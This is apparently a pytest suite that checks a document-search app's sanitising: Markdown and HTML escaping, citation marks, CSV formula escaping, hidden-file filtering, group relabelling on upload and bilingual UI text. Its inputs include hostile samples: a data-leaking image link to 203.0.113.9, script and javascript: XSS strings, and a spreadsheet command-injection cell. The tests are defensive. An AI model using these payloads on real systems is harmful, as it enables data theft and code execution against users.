"""Untrusted text shown as text, the citation check made visible, and the UI's words in both
languages: the pure parts of issue 17, checked with the real Markdown parser the UI uses."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from app.doors import safe_text
from app.doors.ui.audit_view import to_csv
from app.doors.ui.citation_marks import marked_answer, unsupported_sentences
from app.doors.ui.i18n import keys, t
from app.service.uploads import group_changes, is_hidden, split_hidden
from ingest.manifest import FileRecord

UI = Path(__file__).resolve().parent.parent / "app" / "doors" / "ui"
HOSTILE = (
    "Bonus ![x](http://203.0.113.9/leak.png?q=secret) :red[ALERT] <img src=http://203.0.113.9/i.png>"
    " <script>alert(1)</script> [click](javascript:alert(1)) $x^2$ :material/warning: www.example.com"
    " <http://203.0.113.9/auto>"
)
# CommonMark with raw HTML on: the most that a Markdown renderer would turn into markup.
COMMONMARK = MarkdownIt("commonmark", {"html": True})


def rendered(markdown: str) -> str:
    """The HTML, without the invisible word joiners that keep addresses from becoming links."""
    return COMMONMARK.render(markdown).replace(safe_text.WORD_JOINER, "")


def test_text_renders_as_the_same_characters_with_no_markup():
    html = rendered(safe_text.text(HOSTILE))
    assert "<img" not in html and "<a " not in html and "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "![x](http://203.0.113.9/leak.png?q=secret)" in html
    # Streamlit's own syntax: colour, icons and math have every marker escaped.
    escaped = safe_text.text(":red[ALERT] :material/warning: $x^2$")
    assert escaped == "\\:red\\[ALERT\\] \\:material\\/warning\\: \\$x\\^2\\$"


def test_bare_addresses_cannot_become_links():
    """GFM links bare URLs and e-mail addresses after escapes are resolved: an invisible word
    joiner breaks "://", "www." and "@" so that no link pattern matches the shown text."""
    shown = safe_text.text("http://203.0.113.9/x www.example.com HTTPS://A.B ceo@example.com")
    for pattern in ("://", "www.", "@example"):
        assert pattern not in shown.replace("\\", "")
    assert shown.replace(safe_text.WORD_JOINER, "").replace("\\", "") == (
        "http://203.0.113.9/x www.example.com HTTPS://A.B ceo@example.com"
    )


def test_a_file_name_or_heading_cannot_start_a_list_heading_or_quote():
    for line in ("# Secret", "1. first", "- item", "> quote", "| a | b |", "***"):
        html = rendered(safe_text.text(line))
        assert html.startswith("<p>") and line.lstrip("#>|*-1. ")[:3] in html, (line, html)


def test_answer_keeps_bold_lists_and_code_and_drops_images_links_and_html():
    answer = (
        "Staff get **20 days** of leave [1].\n\n"
        "- first step\n- second `code ![](http://x)`\n\n"
        "See ![chart](http://203.0.113.9/leak.png?q=secret) and [the portal](http://203.0.113.9/login).\n"
        "<b>raw</b> <img src=x onerror=alert(1)> [bad](javascript:alert(1))"
    )
    html = rendered(safe_text.answer(answer))
    assert "<strong>20 days</strong>" in html
    assert "<li>first step</li>" in html and "<code>code ![](http://x)</code>" in html
    assert "<img" not in html and "href" not in html and "<b>" not in html
    assert "203.0.113.9" not in html  # the image and the link address are gone
    assert "the portal" in html  # a link keeps its words
    assert "&lt;b&gt;raw&lt;/b&gt;" in html


def test_uncited_sentences_are_marked_and_a_supported_one_is_not():
    passages = {1: "Annual leave is 20 days for every employee."}
    answer = "Employees get 20 days of annual leave [1]. Bonuses are paid in March."
    marked = marked_answer(answer, passages, "no source")
    assert marked.count(":orange-badge[no source]") == 1
    assert marked.index(":orange-badge") > marked.index("March")
    assert unsupported_sentences(answer, passages) == ["Bonuses are paid in March."]
    # A citation of a passage that shares nothing with the sentence does not count.
    assert unsupported_sentences("Bonuses are paid in March [1].", passages)


def test_marks_never_break_a_list_or_bold_text():
    passages = {1: "Annual leave is 20 days."}
    marked = marked_answer("1. **Leave is 20 days.** [1]\n2. Parking is free.", passages, "no source")
    html = rendered(marked)
    assert "<ol>" in html and html.count("<li>") == 2
    assert "<strong>Leave is 20 days.</strong>" in html
    assert "Parking is free. :orange-badge[no source]" in html


def test_csv_cells_that_a_spreadsheet_would_run_are_escaped():
    entries = [
        {"seq": 1, "user": "ann", "action": "search", "query": '=HYPERLINK("http://x","y")'},
        {"seq": 2, "user": "@bob", "action": "search", "query": "+cmd|' /C calc'!A0"},
        {"seq": 3, "user": "ann", "action": "search", "query": "-2+3", "answer": "plain"},
    ]
    rows = list(csv.DictReader(io.StringIO(to_csv(entries).decode("utf-8-sig"))))
    assert rows[0]["query"] == "'=HYPERLINK(\"http://x\",\"y\")"
    assert rows[1]["user"] == "'@bob" and rows[1]["query"].startswith("'+")
    assert rows[2]["query"] == "'-2+3" and rows[2]["answer"] == "plain"
    assert [r["seq"] for r in rows] == ["1", "2", "3"]  # numbers stay numbers


@pytest.mark.parametrize(
    "name", [".DS_Store", "docs/.DS_Store", ".git/config", "Thumbs.db", "a/desktop.ini", "~$report.docx"]
)
def test_hidden_and_system_files_are_skipped(name: str):
    assert is_hidden(name)
    kept, skipped = split_hidden([(name, b"x"), ("policy.pdf", b"%PDF")])
    assert kept == [("policy.pdf", b"%PDF")] and skipped == [name]


def test_climbing_names_are_not_hidden_they_are_refused_later():
    assert not is_hidden("../x.pdf") and not is_hidden("sub/report.docx")


def _record(path: str, root: str, groups: tuple[str, ...], doc_id: str) -> FileRecord:
    return FileRecord(path, doc_id, 1, 1, groups, root, 0.0)


def test_an_upload_that_would_relabel_or_republish_hr_files_is_named(tmp_path: Path):
    import hashlib

    hr_bytes = b"Confidential: 12.5 billion"
    hr_id = hashlib.sha256(hr_bytes).hexdigest()
    folder = (tmp_path / "uploads" / "hr").resolve()
    other = (tmp_path / "uploads" / "finance").resolve()
    ingested = [
        _record(str(folder / "salaries.txt"), str(folder), ("hr",), hr_id),
        _record(str(folder / "public.txt"), str(folder), ("everyone",), "p" * 64),
        _record(str(other / "budget.txt"), str(other), ("finance",), "b" * 64),
    ]
    # Into the same folder, for everyone: the HR file already there would be relabelled.
    [change] = group_changes(folder, [("new.txt", b"new")], ("everyone",), ingested)
    assert (change.name, change.current, change.new) == ("salaries.txt", ("hr",), ("everyone",))
    # Into a new folder, for everyone, with a copy of the HR file: the copy would publish it.
    [copy] = group_changes(tmp_path / "uploads" / "public", [("x/s.txt", hr_bytes)], ("everyone",), ingested)
    assert copy.same_content_as == "x/s.txt" and copy.current == ("hr",)
    # The same groups as before change nothing.
    assert group_changes(folder, [("salaries.txt", hr_bytes)], ("hr",), ingested[:1]) == []


def _tr_keys(tree: ast.AST) -> tuple[set[str], set[str]]:
    """Literal keys and f-string key prefixes passed to tr()/t()."""
    literal, prefixes = set(), set()
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", getattr(node.func, "attr", "")) in ("tr", "t"):
            if node.args and isinstance(node.args[0], ast.Constant) and isinstance(node.args[0].value, str):
                literal.add(node.args[0].value)
            elif node.args and isinstance(node.args[0], ast.JoinedStr):
                first = node.args[0].values[0]
                if isinstance(first, ast.Constant):
                    prefixes.add(str(first.value))
    return literal, prefixes


DISPLAY = {
    "title", "header", "subheader", "caption", "markdown", "write", "info", "warning", "error",
    "success", "button", "metric", "text_input", "selectbox", "radio", "checkbox", "toggle",
    "multiselect", "expander", "file_uploader", "download_button", "form_submit_button",
    "chat_input", "spinner", "date_input", "text", "progress",
}  # fmt: skip


def _english_literals(tree: ast.AST) -> list[str]:
    """Visible English written straight into a page: a display call's first argument, or a
    table's column name, that is a plain string literal instead of a tr() key."""
    found = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call) or getattr(node.func, "attr", None) not in DISPLAY:
            continue
        if getattr(node.func.value, "id", None) in ("log", "logger", "logging"):  # type: ignore[attr-defined]
            continue
        for arg in node.args[:1]:
            if isinstance(arg, ast.Constant) and isinstance(arg.value, str) and any(c.isalpha() for c in arg.value):
                found.append(f"line {node.lineno}: {arg.value!r}")
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "attr", None) == "dataframe":
            for sub in ast.walk(node):
                if isinstance(sub, ast.Dict):
                    for k in sub.keys:
                        if isinstance(k, ast.Constant) and isinstance(k.value, str):
                            found.append(f"line {sub.lineno}: column {k.value!r}")
    return found


@pytest.mark.parametrize("page", sorted(UI.rglob("*.py")), ids=lambda p: str(p.relative_to(UI)))
def test_every_visible_string_of_a_page_is_a_key_in_both_languages(page: Path):
    tree = ast.parse(page.read_text(encoding="utf-8"))
    literal, prefixes = _tr_keys(tree)
    known = set(keys())
    assert literal <= known, f"missing UI text keys: {sorted(literal - known)}"
    for prefix in prefixes:
        assert any(k.startswith(prefix) for k in known), f"no UI text key starts with {prefix!r}"
    for key in literal:
        assert t(key, "en").strip() and t(key, "ja").strip(), key
    assert _english_literals(tree) == [], "put these through tr() with an entry in app/doors/ui/i18n.py"


def test_a_missing_key_fails_the_check():
    tree = ast.parse('st.title(tr("no.such.key"))\nst.caption("Plain English")\nst.dataframe([{"file": 1}])')
    assert _tr_keys(tree)[0] - set(keys()) == {"no.such.key"}
    assert len(_english_literals(tree)) == 2
